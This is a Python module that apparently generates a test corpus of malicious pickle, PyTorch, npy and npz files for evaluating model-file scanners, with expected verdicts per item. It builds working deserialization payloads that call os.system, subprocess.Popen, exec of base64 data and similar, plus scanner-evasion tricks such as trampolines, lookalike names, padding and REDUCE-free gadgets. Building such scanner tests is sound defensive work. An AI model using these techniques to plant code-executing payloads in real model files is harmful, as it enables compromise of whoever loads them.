"""Classes 1 to 8: pickles that name forbidden globals, and call them by one of the pickle machine's instructions."""

from __future__ import annotations

from collections.abc import Iterator

from corpora.archives import zipped
from corpora.assembler import (
    APPEND,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    NEWOBJ_EX,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    Code,
    call,
    named,
    payload,
    pickled,
    reduced,
    system,
    value,
)
from corpora.attacks import gadgets
from corpora.formats import npy, state_dict, torch_legacy, torch_zip
from corpora.item import CAUGHT, CODE, HARM, MALICIOUS, NEEDS_TRUST, Item, one

FORMS = ("global", "stack", "inst", "obj")


def _split(dotted: str) -> tuple[str, str]:
    """Module and name: the name begins at the first word that is a class, or is the last word."""
    words = dotted.split(".")
    classes = [place for place, word in enumerate(words[1:], 1) if word.lstrip("_")[:1].isupper() and word != "_C"]
    at = classes[0] if classes and classes[0] < len(words) - 1 and len(words) > 2 else len(words) - 1
    return ".".join(words[:at]), ".".join(words[at:])


def _gadget(group: str, number: int, dotted: str, answers: frozenset[str], best: str) -> Item:
    """One call of one name, in a form and a container that change from name to name."""
    module, name = _split(dotted)
    form = FORMS[number % len(FORMS)]
    if "." in name:
        form = "stack"  # a line of GLOBAL with a dot in the name is split only from protocol 4 on
    protocol = 4 if form == "stack" else (2, 0, 3)[number % 3]
    code = call(module, name, "true", form=form)
    data, suffix = pickled(code, protocol=protocol or None), "pkl"
    if number % 5 == 1:
        data, suffix = torch_zip(pickled(value({"weight": 1, "extra": code}), protocol=protocol or 2)), "pt"
    elif number % 5 == 3:
        data, suffix = torch_zip(pickled(Code(code + POP), state_dict(), protocol=protocol or 2)), "bin"
    return one(group, f"{dotted}.{form}.{suffix}", data, answers, best, [f"{module}.{name}"])


def direct() -> Iterator[Item]:
    """Class 1."""
    for number, dotted in enumerate(gadgets.DIRECT):
        yield _gadget("01-direct", number, dotted, CODE, MALICIOUS)
    for form in (*FORMS, "newobj"):
        yield one(
            "01-direct",
            f"torch-zip.{form}.pt",
            torch_zip(pickled(system(form), protocol=4)),
            HARM,
            named=["posix.system"],
        )
    legacy = torch_legacy({3: pickled(system(), state_dict(), b"0")})
    yield one("01-direct", "torch-legacy.pth", legacy, CODE, MALICIOUS, ["posix.system"])
    long = f"import base64;exec(base64.b64decode({'A' * 4000!r}))"
    yield one("01-direct", "long-argument.pkl", pickled(call("builtins", "exec", long)), HARM, named=["builtins.exec"])
    yield one("01-direct", "protocol-0.pkl", b"cos\nsystem\n(S'true'\ntR.", HARM, named=["os.system"])


def one_global() -> Iterator[Item]:
    """Classes 2 to 5: one global and one call."""
    groups = [
        ("02-standard-library", gadgets.STANDARD_LIBRARY, NEEDS_TRUST),
        ("03-trampolines", gadgets.TRAMPOLINES, MALICIOUS),
        ("04-libraries", gadgets.LIBRARIES, NEEDS_TRUST),
        ("05-side-effects", gadgets.SIDE_EFFECTS, NEEDS_TRUST),
    ]
    for group, names, best in groups:
        for number, dotted in enumerate(names):
            yield _gadget(group, number, dotted, CODE, best)
    chain = reduced(call("pkgutil", "resolve_name", "os:system"), "true")
    yield one("03-trampolines", "resolve-name-chain.pkl", pickled(chain), HARM, named=["pkgutil.resolve_name"])
    method = reduced(call("operator", "methodcaller", "system", "true"), call("importlib", "import_module", "os"))
    yield one("03-trampolines", "methodcaller-chain.pkl", pickled(method), HARM, named=["operator.methodcaller"])
    getter = reduced(reduced(named("builtins", "getattr"), call("builtins", "__import__", "os"), "system"), "true")
    yield one("03-trampolines", "getattr-chain.pkl", pickled(getter), HARM, named=["builtins.getattr"])
    yield one("03-trampolines", "names-of-letters.pkl", pickled(_by_letters("os", "system"), protocol=4), HARM)
    partial = reduced(call("functools", "partial", named("os", "system"), "true"))
    yield one("03-trampolines", "partial-of-system.pkl", pickled(partial), HARM, named=["os.system"])


def _by_letters(module: str, name: str) -> Code:
    """A call of a name whose two parts are assembled from the letters of a third text."""
    join = reduced(named("builtins", "getattr"), "", "join")
    letters = "".join(sorted({*module, *name}))

    def spelled(text: str) -> Code:
        return reduced(join, reduced(call("operator", "itemgetter", *map(letters.index, text)), letters))

    return Code(spelled(module) + spelled(name) + STACK_GLOBAL + value(("true",)) + REDUCE)


def dotted_names() -> Iterator[Item]:
    """Class 6."""
    for module, name in gadgets.DOTTED:
        code = call(module, name, "true", form="stack")
        data = torch_zip(pickled(value({"weight": code}), protocol=4))
        yield one("06-dotted", f"{module}-{name}.pt", data, CODE, MALICIOUS, [name])
    spaces = [("os ", "system"), ("os", " system"), ("Os", "system"), ("posix\0", "system"), ("ｏs", "system")]
    for number, (module, name) in enumerate(spaces):
        data = pickled(call(module, name, "true", form="stack"), protocol=4)
        yield one("06-dotted", f"lookalike-{number}.pkl", data, CAUGHT)


def imports() -> Iterator[Item]:
    """Class 7."""
    for module, name in gadgets.IMPORTED:
        data = torch_zip(pickled(named(module, name), POP, state_dict()))
        yield one("07-imports", f"{module}.pt", data, CODE, NEEDS_TRUST, [f"{module}.{name}"])
    companions = {
        "pytorch_model.bin": torch_zip(pickled(named("payload", "x"), POP, state_dict())),
        "payload.py": b"import os\nos.system('true')\n",
    }
    yield Item("module-beside", companions, "07-imports", CODE, NEEDS_TRUST, ("payload",))


def without_reduce() -> Iterator[Item]:
    """Class 8: nothing is called by REDUCE."""
    empty = Code(EMPTY_DICT)
    ordered = named("collections", "OrderedDict")
    attributes = value({"__setstate__": named("os", "system")})
    instance = call("torch.nn.modules.linear", "Linear", form="newobj")
    cases: dict[str, tuple[Code, tuple[str, ...]]] = {
        "build-on-class": (Code(named("collections", "OrderedDict") + attributes + BUILD), ("os.system",)),
        "build-on-torch-class": (Code(named("torch", "Size") + value((None, {"__getattr__": 1})) + BUILD), ()),
        "build-on-function": (
            Code(named("torch._utils", "_rebuild_tensor_v2") + value({"__code__": 1}) + BUILD),
            (),
        ),
        "build-on-module": (
            Code(named("sys", "modules") + value({"torch": named("os", "system")}) + BUILD),
            ("sys.modules",),
        ),
        "setstate-then-build": (
            Code(
                named("collections", "OrderedDict") + EMPTY_TUPLE + b"\x81" + attributes + BUILD + value("true") + BUILD
            ),
            ("os.system",),
        ),
        "numpy-size-builtins": (
            Code(named("numpy", "size") + value((None, {"__builtins__": named("builtins", "__dict__")})) + BUILD),
            (),
        ),
        "numpy-ndarray-setstate": (
            Code(named("numpy", "ndarray") + value({"__reduce__": named("os", "system")}) + BUILD),
            ("os.system",),
        ),
        "setitem-on-modules": (
            Code(named("sys", "modules") + value("torch") + named("os", "path") + SETITEM),
            ("sys.modules",),
        ),
        "setitem-on-class": (Code(ordered + value("x") + value(1) + SETITEM), ()),
        "append-on-path": (Code(named("sys", "path") + value("/tmp/evil") + APPEND), ("sys.path",)),
        "append-on-meta-path": (Code(named("sys", "meta_path") + named("x", "Finder") + APPEND), ("sys.meta_path",)),
        "function-type-newobj": (
            Code(named("types", "FunctionType") + value((named("types", "CodeType"), empty)) + b"\x81"),
            ("types.FunctionType",),
        ),
        "map-newobj": (
            Code(
                named("builtins", "bytes")
                + value((call("builtins", "map", named("os", "system"), ["true"], form="newobj"),))
                + b"\x81"
            ),
            ("os.system",),
        ),
        "newobj-ex": (Code(named("subprocess", "Popen") + value(("true",)) + empty + NEWOBJ_EX), ("subprocess.Popen",)),
        "defaultdict-factory": (
            Code(call("collections", "defaultdict", named("builtins", "breakpoint"))),
            ("builtins.breakpoint",),
        ),
        "callable-as-value": (value({"weight": named("os", "system")}), ("os.system",)),
        "hook-in-module": (
            Code(instance + value({"_forward_pre_hooks": {0: named("os", "system")}}) + BUILD),
            ("os.system",),
        ),
        "hook-in-ordered-dict": (
            Code(call("collections", "OrderedDict") + value({"__class__": named("os", "_wrap_close")}) + BUILD),
            ("os._wrap_close",),
        ),
        "obj-without-arguments": (Code(b"(" + named("antigravity", "fly") + b"o"), ("antigravity.fly",)),
        "inst-without-arguments": (Code(b"(iantigravity\nfly\n"), ("antigravity.fly",)),
        "newobj-class-from-call": (
            Code(call("builtins", "type", "X", (), {"__new__": named("os", "system")}) + value(("true",)) + b"\x81"),
            ("os.system",),
        ),
        "set-of-callables": (Code(b"\x8f(" + named("os", "system") + b"\x90"), ("os.system",)),
        "slot-state": (
            Code(call("torch", "device", "cpu") + value((None, {"type": named("os", "system")})) + BUILD),
            ("os.system",),
        ),
        "tensor-hooks-argument": (
            reduced(named("torch._utils", "_rebuild_parameter"), value(1), False, named("os", "system")),
            ("os.system",),
        ),
        "list-extended-by-items": (Code(EMPTY_LIST + b"(" + named("os", "system") + b"e"), ("os.system",)),
    }
    yield from loaders_without_reduce()
    for name, (code, found) in cases.items():
        yield one("08-without-reduce", f"{name}.pkl", pickled(code, protocol=4), CODE, MALICIOUS, found)
    for name in ("build-on-class", "setitem-on-modules", "callable-as-value", "append-on-path"):
        code, found = cases[name]
        data = torch_zip(pickled(code, POP, state_dict(), protocol=2))
        yield one("08-without-reduce", f"{name}.pt", data, CODE, MALICIOUS, found)


def loaders_without_reduce() -> Iterator[Item]:
    """Functions that unpickle bytes: named as a value, and called by the machine or by a function of the weights."""
    inner = payload(protocol=None)
    loader, tensor = named("torch.storage", "_load_from_bytes"), named("torch", "Tensor")
    rebuild, ordered = named("torch._tensor", "_rebuild_from_type_v2"), call("collections", "OrderedDict")
    made = call("copyreg", "_reconstructor", named("collections", "OrderedDict"), named("builtins", "dict"), {})
    objects = Code(
        call("numpy", "dtype", "O8", False, True) + value((3, "|", None, None, None, -1, -1, 0)) + BUILD,
    )
    array = call("numpy.core.multiarray", "_reconstruct", named("numpy", "ndarray"), (0,), b"b")
    cases = {
        "rebuilt-in-rebuilding": reduced(rebuild, rebuild, tensor, (loader, tensor, (inner,), {}), {}),
        "rebuilt-ten-deep": _rebuilt(10),
        "state-that-is-an-ordered-dict": Code(
            ordered + ordered + value("__setstate__") + loader + SETITEM + BUILD + value(inner) + BUILD
        ),
        "state-of-pairs": Code(
            ordered + call("builtins", "dict", [("__setstate__", loader)]) + BUILD + value(inner) + BUILD
        ),
        "state-with-a-computed-key": Code(
            ordered
            + EMPTY_DICT
            + call("builtins", "str", b"__setstate__", "ascii")
            + loader
            + SETITEM
            + BUILD
            + value(inner)
            + BUILD
        ),
        "slots-with-a-computed-key": Code(
            ordered + value((None, call("builtins", "dict", [("__setstate__", loader)]))) + BUILD + value(inner) + BUILD
        ),
        "append-of-a-reconstructed-dict": Code(made + value({"append": loader}) + BUILD + value(inner) + APPEND),
        "append-of-what-is-given-back": Code(
            call("torch.jit._pickle", "restore_type_tag", ordered, "")
            + value({"append": loader})
            + BUILD
            + value(inner)
            + APPEND
        ),
        "state-lost-among-many": Code(
            b")0" * 200_100 + ordered + value({"__setstate__": loader}) + b")0" * 100 + BUILD + value(inner) + BUILD
        ),
        "object-lost-among-many": Code(
            b")0" * 200_100 + ordered + value({"append": loader}) + BUILD + b")0" * 100 + value(inner) + APPEND
        ),
        "objects-by-their-addresses": Code(array + value((1, (1,), objects, False, b"AAAAAAAA")) + BUILD),
    }
    for name, code in cases.items():
        yield one("08-without-reduce", f"{name}.pkl", pickled(code), HARM)
        yield one("08-without-reduce", f"{name}.pt", torch_zip(pickled(code, POP, state_dict())), HARM)


def _rebuilt(depth: int) -> Code:
    """Bytes that a function loads, behind `depth` nested calls."""
    rebuild, tensor = named("torch._tensor", "_rebuild_from_type_v2"), named("torch", "Tensor")
    arguments = value((named("torch.storage", "_load_from_bytes"), tensor, (payload(protocol=None),), {}))
    for _ in range(depth):
        arguments = value((rebuild, tensor, arguments, {}))
    return Code(rebuild + arguments + REDUCE)


def items() -> Iterator[Item]:
    """All of them."""
    yield from direct()
    yield from one_global()
    yield from dotted_names()
    yield from imports()
    yield from without_reduce()
    data = npy("'|O'", (1,), payload())
    yield one("01-direct", "array.npy", data, CODE, MALICIOUS, ["posix.system"])
    yield one("01-direct", "arrays.npz", zipped({"x.npy": data}), CODE, MALICIOUS, ["posix.system"])
